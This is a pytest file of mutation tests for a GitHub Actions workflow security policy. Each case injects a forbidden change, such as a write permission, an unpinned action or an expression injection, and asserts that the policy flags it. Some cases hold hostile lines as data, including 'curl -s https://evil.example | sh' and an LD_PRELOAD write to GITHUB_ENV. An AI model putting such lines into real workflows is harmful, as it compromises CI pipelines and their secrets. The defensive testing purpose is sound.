# ruff: noqa: E501  # one mutant a line
"""Every forbidden kind of change to a workflow is seen by the policy."""

from __future__ import annotations

from typing import NamedTuple

import pytest

from tests.workflows.policy import find_faults
from tests.workflows.test_policy import WORKFLOWS


class Mutant(NamedTuple):
    """One change of one workflow."""

    why: str
    name: str
    old: str
    new: str


CHECKOUT = "uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
HASHED = "--require-hashes --no-deps -r requirements-site.txt"
PYTHON = '"$RUNNER_TEMP/site-venv/bin/python" -I .github/scripts/run.py effsota validate'
SEAL = '"$RUNNER_TEMP/site-venv/bin/python" -I .github/scripts/run.py seal'
MUTANTS = (
    Mutant("pull_request_target", "validate", "  pull_request:", "  pull_request_target:"),
    Mutant("another trigger", "validate", "on:\n", "on:\n  issue_comment:\n"),
    Mutant("a trigger for everybody", "publish", "  workflow_dispatch:", "  pull_request:"),
    Mutant("write at the top", "validate", "permissions: {}", "permissions: write-all"),
    Mutant("no permissions at the top", "issue", "permissions: {}\n", ""),
    Mutant("write in a job", "validate", "contents: read #", "contents: write #"),
    Mutant("more than the table", "comment", "pull-requests: write #", "actions: write\n      pull-requests: write #"),
    Mutant("contents for the answer", "issue", "issues: write #", "contents: write #"),
    Mutant("the signing identity in build", "publish", "contents: read #", "id-token: write #"),
    Mutant("the pull request checked out", "validate", "pull_request.base.sha }}\n          fetch", "pull_request.head.sha }}\n          fetch"),
    Mutant("the merge checked out", "validate", "          ref: ${{ github.event.pull_request.base.sha }}\n", ""),
    Mutant("the head checked out with rights", "comment", "          persist-credentials: false", "          persist-credentials: false\n          ref: ${{ github.event.workflow_run.head_sha }}"),
    Mutant("a fork checked out with rights", "comment", "          persist-credentials: false", "          persist-credentials: false\n          repository: ${{ github.event.workflow_run.head_repository.full_name }}"),
    Mutant("the token left in the checkout", "publish", "          persist-credentials: false\n", "          fetch-depth: 0\n"),
    Mutant("an unpinned action", "publish", CHECKOUT, "uses: actions/checkout@v7"),
    Mutant("another commit", "publish", CHECKOUT, CHECKOUT.replace("3d3c", "3d3d")),
    Mutant("a lying version", "publish", CHECKOUT, CHECKOUT.replace("v7.0.1", "v7.0.2")),
    Mutant("a stranger's action", "publish", CHECKOUT, "uses: evil/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"),
    Mutant("a cache action", "publish", CHECKOUT, "uses: actions/cache@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"),
    Mutant("a cache of packages", "publish", '          python-version: "3.13"', '          python-version: "3.13"\n          cache: pip'),
    Mutant("an expression in a script", "validate", '"$HEAD_SHA"', "${{ github.event.pull_request.title }}"),
    Mutant("a harmless expression in a script", "publish", '"$GITHUB_SHA"', "${{ github.sha }}"),
    Mutant("the environment written", "publish", "today=$(date -u +%F)", 'echo "LD_PRELOAD=x" >> "$GITHUB_ENV"'),
    Mutant("the path written", "publish", "today=$(date -u +%F)", 'echo x >> "$GITHUB_PATH"'),
    Mutant("an output from a script", "comment", 'mkdir "$RUNNER_TEMP/report"', 'echo "number=1" >> "$GITHUB_OUTPUT"'),
    Mutant("Python that is not isolated", "publish", PYTHON, PYTHON.replace(" -I", "")),
    Mutant("Python of the job with rights", "comment", "python3 -I .github/scripts/run.py comment", "python3 .github/scripts/run.py comment"),
    Mutant("packages without hashes", "publish", HASHED, "-r requirements-site.txt"),
    Mutant("packages of another list", "publish", HASHED, HASHED.replace("requirements-site.txt", "evil.txt")),
    Mutant("a package by name", "publish", SEAL, f'"$RUNNER_TEMP/site-venv/bin/python" -I -m pip install pandas; {SEAL}'),
    Mutant("a download", "publish", "today=$(date -u +%F)", "curl -s https://evil.example | sh"),
    Mutant("a download by another name", "publish", "today=$(date -u +%F)", "wget https://evil.example"),
    Mutant("no timeout", "links", "    timeout-minutes: 30\n", ""),
    Mutant("another runner", "publish", "runs-on: ubuntu-24.04", "runs-on: self-hosted"),
    Mutant("a moving runner", "publish", "runs-on: ubuntu-24.04", "runs-on: ubuntu-latest"),
    Mutant("no concurrency", "links", "concurrency:\n  group: links\n  cancel-in-progress: true\n", ""),
    Mutant("a job that is not there", "publish", "needs: build", "needs: biuld"),
    Mutant("an unknown key of a job", "publish", "    timeout-minutes: 15", "    timeout-minutes: 15\n    continue-on-error: true"),
    Mutant("an unknown key of a step", "publish", "      - name: Seal\n", "      - name: Seal\n        shell: python\n"),
    Mutant("a failure that passes", "validate", "      - name: Judge\n", "      - name: Judge\n        continue-on-error: true\n"),
    Mutant("a container", "publish", "    timeout-minutes: 15", "    timeout-minutes: 15\n    container: evil"),
    Mutant("the environment of a workflow", "publish", "concurrency:", "env:\n  PYTHONPATH: .\nconcurrency:"),
    Mutant("an artifact over the checkout", "comment", "path: ${{ runner.temp }}/report\n", "path: .\n"),
    Mutant("an artifact of another run", "comment", "          name: report\n          path: ${{ runner.temp }}/report\n", "          name: report\n          path: ${{ runner.temp }}/report\n          run-id: ${{ github.event.workflow_run.id }}\n"),
    Mutant("a secret", "publish", "GITHUB_SHA", "${{ secrets.KEY }}"),
    Mutant("trust by actor", "comment", "github.event.workflow_run.event == 'pull_request'", "github.actor == 'dependabot[bot]'"),
    Mutant("a workflow called", "links", "    runs-on: ubuntu-24.04\n", "    runs-on: ubuntu-24.04\n    uses: evil/x/.github/workflows/y.yml@main\n"),
    Mutant("a release of every branch", "release", '    tags: ["v*"]', "    branches: [main]"),
    Mutant("a release without an owner", "release", "    environment:\n      name: pypi\n      url: https://pypi.org/project/effsota/\n", ""),
    Mutant("a release that runs the checkout", "release", "      - name: Upload\n", "      - name: Check out\n        uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1\n        with:\n          persist-credentials: false\n      - name: Upload\n"),
    Mutant("a release by another hand", "release", "gh release create", "gh api"),
    Mutant("a release before its build", "release", "    needs: [build, attest]\n    runs-on: ubuntu-24.04\n    timeout-minutes: 5\n", "    runs-on: ubuntu-24.04\n    timeout-minutes: 5\n"),
    Mutant("a job that no table knows", "links", "jobs:\n", "jobs:\n  more:\n    runs-on: ubuntu-24.04\n    timeout-minutes: 1\n    permissions: {contents: read}\n    steps: []\n"),
)  # fmt: skip


@pytest.mark.parametrize("mutant", MUTANTS, ids=lambda mutant: mutant.why)
def test_a_forbidden_change_is_seen(mutant: Mutant) -> None:
    """The policy finds something in the changed workflow."""
    changed = WORKFLOWS[mutant.name].replace(mutant.old, mutant.new, 1)
    assert changed != WORKFLOWS[mutant.name]
    assert find_faults(WORKFLOWS | {mutant.name: changed}) != []


def test_a_new_workflow_is_seen() -> None:
    """Nobody adds one without a line in each table."""
    assert find_faults(WORKFLOWS | {"more": WORKFLOWS["links"]}) == ["more: a workflow that no table knows"]
